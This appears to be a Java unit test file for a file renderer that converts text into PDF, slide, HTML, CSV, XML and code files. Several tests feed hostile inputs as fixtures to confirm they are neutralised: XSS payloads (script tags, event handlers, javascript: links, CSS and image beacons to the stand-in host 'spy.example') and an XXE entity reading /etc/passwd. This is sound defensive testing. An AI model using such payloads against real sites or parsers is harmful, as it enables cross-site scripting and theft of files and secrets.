package dev.parley.workflow.task.file;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.parley.workflow.definition.core.OutputParameter;
import dev.parley.workflow.definition.core.OutputType;
import java.io.ByteArrayInputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.font.PDFont;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xslf.usermodel.XSLFShape;
import org.apache.poi.xslf.usermodel.XSLFTextShape;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Rendered files, read back by independent programs where available. */
class FileRendererTest {
    private static final String REPORT = """
            # Stock report

            Grüße, Καλημέρα, Здравствуйте — *all* **three** scripts.

            | Item | Count |
            |---|---:|
            | Bolts | 12 |
            | Nuts | 7 |

            ## Next steps

            - order bolts
              - before Friday
            - count again

            ```
            total = 19
            ```
            """;

    private static MadeFile file(OutputType type, String text) throws UnrenderableTextException {
        return FileRenderer.of(new OutputParameter("report", type, "d"), text);
    }

    private static String text(OutputType type, String text) throws UnrenderableTextException {
        return new String(file(type, text).bytes(), UTF_8);
    }

    @Test
    void aPdfHasTheTextInEmbeddedFontsOfThreeScripts() throws Exception {
        MadeFile pdf = file(OutputType.PDF, REPORT);
        assertThat(pdf.name()).isEqualTo("report.pdf");
        assertThat(pdf.contentType()).isEqualTo("application/pdf");
        try (PDDocument document = Loader.loadPDF(pdf.bytes())) {
            assertThat(new PDFTextStripper().getText(document))
                    .contains(
                            "Stock report", "Grüße, Καλημέρα, Здравствуйте", "Bolts 12", "before Friday", "total = 19");
            for (var name : document.getPage(0).getResources().getFontNames()) {
                PDFont font = document.getPage(0).getResources().getFont(name);
                assertThat(font.isEmbedded()).as(font.getName()).isTrue();
            }
        }
    }

    @Test
    void popplerReadsThePdfWhereItIsInstalled() throws Exception {
        Path pdf = Files.createTempFile("parley", ".pdf");
        try {
            Files.write(pdf, file(OutputType.PDF, REPORT).bytes());
            Process poppler = new ProcessBuilder(
                            "sh", "-c", "command -v pdftotext || exit 3; pdftotext -layout \"$0\" -", pdf.toString())
                    .start();
            String text = new String(poppler.getInputStream().readAllBytes(), UTF_8);
            org.junit.jupiter.api.Assumptions.assumeTrue(poppler.waitFor() != 3, "no pdftotext");
            assertThat(text).contains("Stock report", "Здравствуйте", "Nuts");
        } finally {
            Files.delete(pdf);
        }
    }

    @Test
    void slidesStartAtHeadingsAndOverflowToTheNext() throws Exception {
        String text = REPORT + "\n## Long\n" + "- a point\n".repeat(25);
        MadeFile deck = file(OutputType.PPT, text);
        assertThat(deck.name()).isEqualTo("report.pptx");
        try (var show = new XMLSlideShow(new ByteArrayInputStream(deck.bytes()))) {
            List<String> titles = show.getSlides().stream()
                    .map(slide -> String.valueOf(slide.getTitle()))
                    .toList();
            assertThat(titles).containsExactly("Stock report", "Next steps", "Long", "Long", "Long");
            List<String> second = new ArrayList<>();
            for (XSLFShape shape : show.getSlides().get(1).getShapes()) {
                if (shape instanceof XSLFTextShape words) {
                    second.addAll(words.getText().lines().toList());
                }
            }
            assertThat(second)
                    .containsExactly("Next steps", "order bolts", "before Friday", "count again", "total = 19");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "---\n---", "plain words", "# only a title"})
    void everyTextMakesAPresentationAndAPdf(String text) throws Exception {
        try (var show = new XMLSlideShow(
                new ByteArrayInputStream(file(OutputType.PPT, text).bytes()))) {
            assertThat(show.getSlides()).isNotEmpty();
        }
        try (PDDocument document = Loader.loadPDF(file(OutputType.PDF, text).bytes())) {
            assertThat(document.getNumberOfPages()).isEqualTo(1);
        }
    }

    @Test
    void htmlKeepsTextAndLosesActiveAndExternalContent() throws Exception {
        String page = text(OutputType.HTML, """
                <h1 onclick="steal()">Hi</h1><script>steal()</script><img src="https://spy.example/?secret=1">
                <a href="javascript:steal()">a</a><a href="https://ok.example/">b</a>
                <style>p { background: url(https://spy.example/) }</style><p style="background:u\\72l(//spy.example)">x</p>
                <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"><svg onload="steal()"></svg>
                <meta http-equiv="refresh" content="0; url=https://spy.example"><iframe srcdoc="x"></iframe>""");
        assertThat(page)
                .startsWith("<!doctype html>")
                .contains("Hi", "https://ok.example/", "data:image/png", "charset")
                .doesNotContain("steal", "spy.example", "iframe", "refresh");
    }

    @Test
    void aPdfFetchesNothingAndAStyleCannotAskForEndlessPaper() throws Exception {
        try (var receiver = new java.net.ServerSocket(0, 5, java.net.InetAddress.getLoopbackAddress())) {
            String url = "http://127.0.0.1:" + receiver.getLocalPort() + "/x";
            byte[] pdf = file(
                            OutputType.PDF,
                            "<html><body style='height: 99999999px'><img src='" + url + "'>"
                                    + "<style>@import url('" + url
                                    + "'); p { height: 9999999px; page-break-after: always }"
                                    + "</style><link rel=stylesheet href='" + url + "'><p>words</p></body></html>")
                    .bytes();
            receiver.setSoTimeout(200);
            assertThatThrownBy(receiver::accept).isInstanceOf(java.net.SocketTimeoutException.class);
            try (PDDocument document = Loader.loadPDF(pdf)) {
                assertThat(document.getNumberOfPages()).isEqualTo(1);
            }
        }
    }

    @Test
    void rawHtmlInMarkdownIsEscaped() throws Exception {
        try (PDDocument document = Loader.loadPDF(
                file(OutputType.PDF, "hello <script>steal()</script>").bytes())) {
            assertThat(new PDFTextStripper().getText(document)).contains("<script>");
        }
    }

    @Test
    void absurdNestingIsRefused() {
        for (String deep : List.of("<html><body>" + "<div>".repeat(60_000), "> ".repeat(3_000) + "x")) {
            assertThatThrownBy(() -> file(OutputType.PDF, deep)).isInstanceOf(UnrenderableTextException.class);
        }
    }

    @Test
    void csvIsWrittenAsOfficePackagesReadIt() throws Exception {
        assertThat(text(OutputType.CSV, "```csv\na,b\n1,\"x, y\"\n```")).isEqualTo("a,b\r\n1,\"x, y\"\r\n");
        assertThat(FileRenderer.fault(OutputType.CSV, "a,\"b\nc,d")).isPresent();
    }

    @Test
    void xmlHasToBeWellFormedAndWithoutEntities() throws Exception {
        assertThat(text(OutputType.XML, "```xml\n<a>ü</a>\n```")).isEqualTo("<a>ü</a>");
        assertThat(FileRenderer.fault(OutputType.XML, "<a>")).isPresent();
        assertThat(FileRenderer.fault(
                        OutputType.XML, "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"))
                .isPresent();
    }

    @ParameterizedTest
    @CsvSource({"'```python\nprint(1)\n```', print(1), report.py", "x = 1, x = 1, report.txt"})
    void codeIsNamedForItsLanguage(String text, String kept, String name) throws Exception {
        MadeFile file = file(OutputType.CODE, text);
        assertThat(new String(file.bytes(), UTF_8)).isEqualTo(kept);
        assertThat(file.name()).isEqualTo(name);
    }

    @Test
    void aDataUrlIsTheFileItself() throws Exception {
        byte[] dot = {1, 2, 3};
        String url = "data:image/png;base64," + Base64.getEncoder().encodeToString(dot);
        MadeFile file = file(OutputType.FILE, url);
        assertThat(file.bytes()).isEqualTo(dot);
        assertThat(file.name()).isEqualTo("report.png");
        assertThatThrownBy(() -> file(OutputType.PDF, url)).isInstanceOf(UnrenderableTextException.class);
        assertThat(text(OutputType.TEXT, "data: not a URL")).isEqualTo("data: not a URL");
    }

    @Test
    void theOutputsNameMayHaveTheEnding() throws Exception {
        assertThat(FileRenderer.of(new OutputParameter("main.py", OutputType.CODE, "d"), "x")
                        .name())
                .isEqualTo("main.py");
        assertThat(FileRenderer.of(new OutputParameter("a.pdf", OutputType.PDF, "d"), "x")
                        .name())
                .isEqualTo("a.pdf");
    }
}
